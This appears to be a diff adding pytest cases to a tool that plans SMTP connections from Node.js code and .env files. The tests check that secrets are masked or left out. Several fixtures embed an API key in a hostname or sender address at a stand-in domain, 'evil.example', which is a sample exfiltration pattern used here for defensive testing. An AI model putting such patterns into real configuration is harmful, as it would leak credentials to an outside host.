@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 
 import pytest
@@ -123,7 +124,7 @@ def test_no_name_that_is_looked_up_or_said_holds_an_exported_secret(
     made = plans(tmp_path, NAMES[name])
     assert "tok3n" not in str([plan.settings for plan in made.plans]).lower()
     [left] = made.left_out
-    assert "from a secret that this shell exports" in left.why
+    assert "what is or looks like a secret" in left.why
 
 
 def test_lookalike_a_region_in_the_host(tmp_path: Path) -> None:
@@ -165,3 +166,71 @@ def test_lookalike_a_region_beside_a_secret_of_the_same_name_as_an_exported_one(
     (plan,) = plans(tmp_path, node(OPTIONS, dotenv)).plans
     assert plan.settings.host == "email-smtp.eu-west-1.amazonaws.com"
     assert plan.credentials.password is not None
+
+
+#: A key of the folder's own, and where a name that is looked up or said has it.
+KEY = "k4f9d02ab7c61e85"
+KEYED = {
+    "host, in code": node("{host: `${process.env.API_KEY}.evil.example`}", f"API_KEY={KEY}\n"),
+    "host, by .env": node("{host: process.env.H}", f"APP_KEY=base64:{KEY}\nH={KEY}.evil.example\n"),
+    "sender": node(
+        "{host: 'smtp.gmail.com'}",
+        f"API_KEY={KEY}\n",
+        send=".sendMail({from: `a@${process.env.API_KEY}.evil.example`})",
+    ),
+    "EHLO": node(f"{{host: '{HOST}', name: process.env.API_KEY}}", f"API_KEY={KEY}\n"),
+    "nothing says that it is one": node("{host: process.env.H}", "H=Zk4wPm9Lq8vT.evil.example\n"),
+}
+
+
+@pytest.mark.parametrize("name", KEYED)
+def test_nor_a_secret_of_the_folder(name: str, tmp_path: Path) -> None:
+    made = plans(tmp_path, KEYED[name])
+    assert not {KEY, "zk4wpm9lq8vt"} & set(
+        re.findall(r"\w+", str([plan.settings for plan in made.plans]).lower())
+    )
+    [left] = made.left_out
+    assert "what is or looks like a secret" in left.why
+
+
+def test_a_user_name_in_the_password_s_place_leaves_the_password_masked(tmp_path: Path) -> None:
+    options = f"{{host: '{HOST}', auth: {{user: 'geheim99', pass: 'info@example.com'}}}}"
+    (plan,) = plans(tmp_path, node(options)).plans
+    assert "geheim99" not in str(plan.settings)
+
+
+def test_a_key_of_the_folder_is_masked_where_it_is_the_user(tmp_path: Path) -> None:
+    options = f"{{host: '{HOST}', auth: {{user: process.env.API_KEY, pass: 'x'}}}}"
+    (plan,) = plans(tmp_path, node(options, f"API_KEY={KEY}\n")).plans
+    assert KEY not in str(plan.settings)
+    assert plan.credentials.username == KEY
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"API_KEY={KEY}\nSMTP_HOST={KEY}.example.com\n",
+        f"API_KEY={KEY}\nSMTP_URL=smtp://u:p@{KEY}.example.com\n",
+        "SMTP_HOST=Zk4wPm9Lq8vT.example.com\n",
+        "SMTP_HOST=Zk4wPm9Lq8vT\nSMTP_PASS=smtp.example.com\n",
+        "SMTP_HOST=Zk4w.Pm9L.q8vT\nSMTP_PASS=Zk4w.Pm9L.q8vT\n",
+        "SMTP_HOST=smtp.example.com\nSMTP_USER=Zk4wPm9Lq8vT\nSMTP_PASS=info@example.com\n",
+        f"API_KEY={KEY}\nSMTP_HOST=smtp.example.com\nSMTP_FROM={KEY}@example.com\n",
+        f"API_KEY={KEY}\nSMTP_HOST=smtp.example.com\nSMTP_USER={KEY}\nSMTP_PASS=x\n",
+    ],
+)
+def test_nor_the_project_s_own_names(text: str, tmp_path: Path) -> None:
+    (plan,) = plans(tmp_path, {".env": text}).plans
+    shown = str(plan.settings).lower()
+    assert not [each for each in (KEY, "zk4wpm9lq8vt", "zk4w.pm9l.q8vt") if each in shown]
+
+
+@pytest.mark.parametrize(
+    "host",
+    ["vpce-0a1b2c3d4e5f-abcd12.email-smtp.us-east-1.vpce.amazonaws.com", "MailServer01.example.com",
+     "SRV01MAIL02DC03.example.com", "mail2024.example.com", "a1b2c3d4e5f6"],
+)  # fmt: skip
+def test_lookalike_a_host_with_digits(host: str, tmp_path: Path) -> None:
+    text = f"DB_PASSWORD=mail2024\nSMTP_HOST={host}\n"
+    (plan,) = plans(tmp_path, {".env": text}).plans
+    assert plan.settings.host == host.lower()
